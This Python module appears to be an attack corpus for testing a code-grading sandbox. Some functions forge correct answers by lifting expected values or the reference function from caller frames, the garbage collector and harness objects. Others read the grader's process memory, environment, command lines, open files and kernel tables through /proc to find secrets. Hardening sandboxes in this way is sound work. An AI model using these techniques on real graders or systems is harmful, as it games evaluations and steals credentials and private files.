"""Looking for what is expected: in frames, in what the garbage collector knows, in /proc, in open descriptors."""

from __future__ import annotations

from .corpus import COURSE, GRADER, Gain, attack


@attack(Gain.POINTS, quick=True)
def the_frames_above():
    """Reads the expected value, or the reference itself, in the frames that call the answer."""
    import sys

    def row_sums(matrix):
        frame = sys._getframe(1)
        while frame is not None:
            for scope in (frame.f_locals, frame.f_globals):
                if "_reference" in scope:
                    return scope["_reference"](matrix)
                if "_expected" in scope:
                    return scope["_expected"]
            frame = frame.f_back
        return None


@attack(Gain.POINTS, quick=True)
def what_the_collector_knows():
    """Asks the garbage collector for a function that is called reference, or an array of the right length."""
    import gc
    import types

    def row_sums(matrix):
        known = gc.get_objects()
        for thing in known:
            if isinstance(thing, types.FunctionType) and thing.__name__ in ("_reference", "reference"):
                return thing(matrix)
        return None


@attack(Gain.NONE)
def all_arrays_in_memory():
    """Collects whatever array of the right length lives in this process, the expected one among them."""
    import gc

    import numpy as np

    def row_sums(matrix):
        for thing in gc.get_objects():
            for inner in thing if isinstance(thing, (list, tuple)) else ():
                if type(inner) is np.ndarray and inner.shape == (len(matrix),) and inner is not matrix:
                    return inner
        return None


@attack(Gain.NONE)
def the_questions_that_come_next():
    """Reads the channel's socket: questions are sent ahead, and an answer to a later one may be known by then."""
    import os
    import select

    def row_sums(matrix):
        for fd in range(3, 64):
            try:
                if select.select([fd], [], [], 0)[0]:
                    os.read(fd, 1 << 16)
            except (OSError, ValueError):
                pass
        return 0


@attack(Gain.NONE)
def the_harness_walked_through():
    """Follows references from the sandbox's own objects: channel, question, namespace, shell."""
    import gc
    import sys

    def row_sums(matrix):
        seen, todo = set(), [sys._getframe(1)]
        while todo and len(seen) < 20_000:
            thing = todo.pop()
            if id(thing) in seen:
                continue
            seen.add(id(thing))
            named = callable(thing) and getattr(thing, "__name__", "") in ("row_sums", "_reference")
            if named and getattr(thing, "__module__", "") != "__main__":
                return thing(matrix)
            todo += gc.get_referents(thing)
        return None


@attack(Gain.LOOT, quick=True)
def the_memory_of_the_grader():
    """Reads /proc/PID/mem of the process that grades, page by page."""
    import os

    for pid in (GRADER, os.getppid(), 1):
        try:
            areas = [line.split()[0].split("-") for line in open(f"/proc/{pid}/maps") if " rw" in line]
            memory = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError as error:
            print(error.strerror)
            continue
        for start, end in areas:
            try:
                memory.seek(int(start, 16))
                content = memory.read(min(int(end, 16) - int(start, 16), 64 << 20))
            except (OSError, OverflowError):
                continue
            at = content.find(b"loot-" + b"in-memory-")
            if at >= 0:
                print(content[at + 15 : at + 80].decode("ascii", "replace"))


@attack(Gain.LOOT)
def the_environment_of_the_grader():
    """Reads /proc/PID/environ of the process that grades, and this process's own environment."""
    import os

    print(dict(os.environ))
    for pid in (GRADER, os.getppid(), 1, "self"):
        try:
            print(open(f"/proc/{pid}/environ").read())
        except OSError as error:
            print(error.strerror)


@attack(Gain.LOOT)
def the_command_lines():
    """Lists all processes with their command lines; a password or a path often stands there."""
    import glob

    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            print(open(path).read().replace("\0", " ")[:300])
        except OSError as error:
            print(error.strerror)


@attack(Gain.LOOT)
def the_files_of_the_grader():
    """Opens what the process that grades has open, through /proc/PID/fd, cwd and root."""
    import glob
    import os

    for pid in (GRADER, os.getppid(), 1):
        for path in (
            *glob.glob(f"/proc/{pid}/fd/*"),
            f"/proc/{pid}/cwd/exams.py",
            f"/proc/{pid}/root{COURSE}/exams.py",
        ):
            try:
                if os.path.isfile(path):
                    print(open(path).read(5000))
            except OSError as error:
                print(error.strerror)


@attack(Gain.NONE)
def descriptors_left_open():
    """Reads whatever descriptor this process was born with, from its beginning."""
    import os

    for fd in range(3, 256):
        try:
            print(os.pread(fd, 2000, 0))
        except OSError:
            pass


@attack(Gain.NONE)
def the_tables_of_the_kernel():
    """Reads what /proc says about the machine: partitions, mounts, sockets, processors, the kernel's own messages."""
    import glob

    for path in ("/proc/partitions", "/proc/net/tcp", "/proc/net/unix", "/proc/kmsg", "/proc/1/status", "/proc/keys"):
        try:
            print(path, open(path).read(3000))
        except OSError as error:
            print(path, error.strerror)
    print(glob.glob("/sys/class/net/*"))


@attack(Gain.NONE, quick=True)
def the_table_of_mounts():
    """Reads where on the host the mounted folders come from.

    The kernel tells it, of the Python, the libraries and the sandbox's own modules; the libraries' compiled files and
    the Python's own settings tell it too. It leads nowhere: below those names nothing is there but what is mounted.
    """
    import os

    for line in open("/proc/self/mountinfo"):
        origin, place = line.split()[3:5]
        if origin == place or origin == "/" or place.startswith("/dev/"):
            continue
        for path in (origin, os.path.dirname(origin)):
            if os.path.exists(path):
                print("PWNED", path)
    raise SystemExit
